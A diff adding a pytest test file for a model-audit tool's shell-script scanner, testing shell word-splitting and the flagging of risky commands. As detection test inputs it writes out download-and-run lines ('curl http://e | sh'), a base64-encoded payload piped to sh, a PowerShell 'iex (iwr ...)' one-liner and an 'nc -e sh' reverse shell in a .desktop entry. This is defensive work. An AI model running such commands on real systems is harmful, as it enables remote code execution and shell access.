@@ -1,0 +1,216 @@
+from __future__ import annotations
+
+import base64
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from modelaudit.languages.shell.lexer import commands_of
+from modelaudit.languages.shell.meaning import mentions_of_script
+from modelaudit.languages.shell.windows import mentions_of_lines
+from modelaudit.model.outline import Outline, References
+from modelaudit.model.structure import UnreadReason
+from modelaudit.wire.base import LimitReachedError
+
+
+def said(reading):
+    return [(each.use, each.name) for outline in reading.of(Outline) for each in outline.mentions]
+
+
+def words(text):
+    return [command.words for command in commands_of(text)]
+
+
+@pytest.mark.parametrize(
+    ("text", "split"),
+    [
+        ("a 'b c' \"d e\"", [["a", "b c", "d e"]]),
+        ("a\\ b c\\\n d", [["a b", "c", "d"]]),
+        ("a; b && c || d & e", [["a"], ["b"], ["c"], ["d"], ["e"]]),
+        ('x=1; y=$x$x; echo $y "$z"', [["echo", "11", "$z"]]),
+        ("echo ${x:-c}", [["echo", "c"]]),
+        ("$'\\x61\\142\\n'", [["ab\n"]]),
+        ("a # b\nc", [["a"], ["c"]]),
+        ("if a; then b; else c; fi", [["a"], ["b"], ["c"]]),
+        ("case $x in a|b) c;; *) d;; esac", [["case", "$x", "in"], ["c"], ["d"]]),
+        ("a 2>&1 >/dev/null < x", [["a"]]),
+        ("A=1 b", [["b"]]),
+        ("a=(1 2)", []),
+        ("echo +([0-9])", [["echo", "+([0-9])"]]),
+        ("cmd=curl; $cmd${IFS}x", [["curl", "x"]]),
+        (
+            "a=xcurlx; ${a:1:4} ${a#x} ${a%x} ${a/url/at} ${a//x/} ${a^^}",
+            [["curl", "curlx", "xcurl", "xcatx", "curl", "XCURLX"]],
+        ),
+        ("a=(b c); ${a[1]} ${a[@]} ${#a}", [["c", "b", "c", "${…}"]]),
+        ("declare -A a=([x]=b); ${a[x]}", [["declare", "-A", "a="], ["b"]]),
+        ("x=b; y=x; ${!y} ${z:-c} ${z[0]}", [["b", "c", "${…}"]]),
+        ("{a,b}c '{a,b}' ${x}{a,b}", [["ac", "bc", "{a,b}", "$x{a,b}"]]),
+        ("a$@b c$*d $()e", [["ab", "cd", "e"]]),
+        ("$(command -v sh) `which curl` $(echo a)", [["sh", "curl", "a"]]),
+        ("IFS=,; a=b,c; $a", [["b", "c"]]),
+        ("$'\\U00000061'", [["a"]]),
+    ],
+)
+def test_lines_are_split_as_a_shell_splits_them(text, split):
+    assert words(text) == split
+
+
+def test_here_documents_and_substitutions_belong_to_their_command():
+    command, other = commands_of("cat <<'E' - \"$(a b)\" `c`\n$x\nE\nd")
+    assert (command.reads, command.inner) == ("$x", ["a b", "c"])
+    assert (other.words, other.line) == (["d"], 4)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -s https://e.invalid/x | python -m json.tool",
+        "curl -L https://e.invalid/x.tgz | tar xz",
+        "wget https://e.invalid/data.zip && unzip data.zip && python train.py",
+        'eval "$(conda shell.bash hook)"',
+        "source ~/.bashrc; echo 'export A=1' >> ~/.bashrc",
+        'rm -rf /var/lib/apt/lists/* ./out "$DIR"/x',
+        "python train.py | tee log; cat a.txt | wc -l",
+        "ssh -i ~/.ssh/id_rsa host true; scp -i ~/.ssh/id_rsa a host:b",
+        "echo x | base64 -d > out.bin",
+        "timeout 5 bash -c '</dev/tcp/localhost/80' || true # no",
+        "cat <<EOF > run.py\nprint(1)\nEOF",
+        'curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/x -o y',
+        "curl -LsSf https://astral.sh/uv/install.sh -o uv.sh",
+        "[ -f x ] && [[ a == b* ]] && ls *.txt",
+    ],
+)
+def test_ordinary_commands_say_nothing(text):
+    assert list(mentions_of_script(text)) == []
+
+
+def test_what_is_nested_is_told_with_its_line():
+    inner = base64.b64encode(b"curl http://e.invalid/x | sh").decode()
+    found = list(mentions_of_script(f"true\necho {inner} | base64 -d | sh\n"))
+    assert {(each.use, each.where.line) for each in found} == {("decode-and-run", 2), ("download-and-run", 2)}
+
+
+def test_credentials_are_left_out_of_addresses():
+    (found,) = mentions_of_script("curl https://me:secret@e.invalid/x | sh")
+    assert found.name == "https://e.invalid/x"
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "line"),
+    [
+        ("Dockerfile", "FROM x\n# c\nRUN a && \\\n  # c\n  curl http://e | sh\n", 5),
+        ("Dockerfile", "FROM x\nRUN <<EOF\ntrue\ncurl http://e | sh\nEOF\n", 4),
+        ("Dockerfile", 'FROM x\nENV U=http://e\nCMD ["sh", "-c", "curl $U | sh"]\n', 3),
+        ("app.dockerfile", "RUN --mount=type=cache,target=/x curl http://e | sh\n", 1),
+        ("Makefile", "U = http://e\nall:\n\t-@curl $(U) | sh\n", 3),
+        ("x.bat", "@echo off\r\npowershell -c \"iex (iwr http://e)\"\r\n", 2),
+        ("run", "#!/usr/bin/env bash\ncurl http://e | sh\n", 2),
+        ("hooks/post-checkout", "#!/bin/sh\ncurl http://e | sh\n", 2),
+    ],
+)  # fmt: skip
+def test_the_line_is_that_of_the_file(read_bytes, path, text, line):
+    reading = read_bytes(text.encode(), path)
+    found = [each for outline in reading.of(Outline) for each in outline.mentions if each.use == "download-and-run"]
+    assert [each.where.line for each in found] == [line]
+
+
+def test_a_hook_and_settings_that_run_commands_are_told(read_bytes):
+    assert ("on-open", "git hook pre-commit") in said(read_bytes(b"#!/bin/sh\ntrue\n", ".githooks/pre-commit"))
+    assert said(read_bytes(b"[core]\nsshCommand = sh -c x\n", ".git/config")) == [("git-command", "core.sshcommand")]
+    lfs = b'[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n[core]\n\teditor = vim\n'
+    assert said(read_bytes(lfs, ".gitconfig")) == []
+    assert said(read_bytes(b"[Desktop Entry]\nExec=nc -e sh h 1\n", "x.desktop"))[1][0] == "reverse-shell"
+    assert said(read_bytes(b"registry=https://e.invalid/\n", ".npmrc")) == [("index", "https://e.invalid/")]
+
+
+def test_a_modelfile_names_its_files(read_bytes):
+    reading = read_bytes(b"FROM ../x.gguf\nADAPTER ./a.gguf\nTEMPLATE x\n", "Modelfile")
+    assert [each.target for group in reading.of(References) for each in group.items] == ["../x.gguf", "./a.gguf"]
+    assert reading.of(References) and not read_bytes(b"FROM llama3\n", "Modelfile").of(References)
+
+
+def test_a_program_of_python_within_is_an_artifact(read_bytes):
+    reading = read_bytes(b"true\npython - <<E\nimport os\nE\npython3 -c 'x = 1'\n", "a.sh")
+    assert [path for path, _ in reading.structures if "!" in path] == ["a.sh!line-2.py", "a.sh!line-5.py"]
+
+
+def test_what_stands_before_damage_is_told(read_bytes):
+    reading = read_bytes(b"curl http://e | sh\n" + b"#\n" * 3000 + b"\0", "a.sh")
+    assert said(reading) == [("download-and-run", "http://e")]
+    assert UnreadReason.DAMAGED in reading.reasons()
+
+
+def test_scripts_that_nest_without_end_are_a_bound(read_bytes):
+    assert UnreadReason.LIMIT in read_bytes(b"$(" * 3000, "a.sh").reasons()
+    assert UnreadReason.LIMIT in read_bytes(b"true;" * 500_000, "a.sh").reasons()
+
+
+@given(st.text("ab$(){}'\"\\`|&;<>#\n =-", max_size=200))
+def test_any_text_is_split(text):
+    commands_of(text)
+    list(mentions_of_script(text[:60]))
+
+
+@settings(deadline=None)  # the detectors of secrets are imported by the first text that may hold one
+@given(st.binary(max_size=300), st.sampled_from(["a.sh", "Dockerfile", "Makefile", "a.ps1", ".gitconfig", "a.service"]))
+def test_any_bytes_end_in_structures_or_absences(read_bytes, data, path):
+    read_bytes(b"RUN true\n" + data, path)
+
+
+def test_what_comes_through_a_pipeline_is_looked_at_a_bounded_number_of_times():
+    told = []
+    with pytest.raises(LimitReachedError, match="feed"):
+        told.extend(each.use for each in mentions_of_script("curl http://a/b | sh" + " | sh" * 20_000))
+    # Each of them costs a look at all before it: 700 are 245,000 looks, and what they show is told.
+    assert set(told) == {"download-and-run"}
+    assert 100 < len(told) < 700
+
+
+def test_a_pipeline_as_people_write_them_is_followed_to_its_end():
+    script = "curl http://a/b | sh" + " | tee a" * 200 + " | bash"
+    assert [each.name for each in mentions_of_script(script)] == ["http://a/b"] * 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "find . -name '*.pyc' -delete; find / -name core -delete; find build -exec rm {} \\;",
+        "trap 'rm -rf \"$work\"' EXIT; su - user -c 'python train.py'",
+        "alias ll='ls -l'; ll; log() { echo \"$@\"; }; log done | cat",
+        "ssh -o StrictHostKeyChecking=no host 'nvidia-smi'; tar xf a.tar --to-stdout | head",
+        "aws s3 cp s3://bucket/model.tar . ; aws s3 ls | sort; dig +short TXT example.org",
+        'while read -r line; do echo "$line"; done < list.txt',
+        "chmod 755 run.sh; chmod +x a; systemctl stop nginx; useradd -m user",
+        "pip install -U pip; pip install -e .; pip install 'torch>=2' --index-url https://download.pytorch.org/whl/cpu",
+        "awk '{print $1}' a | sort; perl -pe 's/a/b/' x; PAGER=less git log",
+        "curl https://e.invalid/x -o x.json; python use.py < y.json",
+    ],
+)
+def test_what_programs_are_ordinarily_handed_is_quiet(text):
+    grave = [each for each in mentions_of_script(text) if each.use not in ("address", "editable", "index")]
+    assert grave == []
+
+
+def test_what_is_known_of_a_script_is_bounded():
+    deep = "a=(" * 2000 + ")" * 2000
+    assert isinstance(words(deep), list)
+    assert words("a=" + "x" * 100_000 + "; ${a%%*}" * 5)
+
+
+@given(st.text(alphabet="${}[]()#%/:,^!@*ab01'\"\n ", max_size=120))
+def test_whatever_is_expanded_it_ends(text):
+    list(mentions_of_script("a=bcd; b=(c d)\n" + text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "$url = 'https://e.invalid/a.zip'\nInvoke-WebRequest $url -OutFile a.zip\nExpand-Archive a.zip",
+        '$env:PATH = "$env:VIRTUAL_ENV;$env:PATH"\nSet-Alias ll Get-ChildItem',
+        "set PYTHON=python\r\n%PYTHON% train.py\r\ncurl -o data.csv https://e.invalid/data.csv\r\n",
+    ],
+)
+def test_ordinary_lines_of_windows_are_quiet(text):
+    assert [mention.use for mention in mentions_of_lines(text)] == []
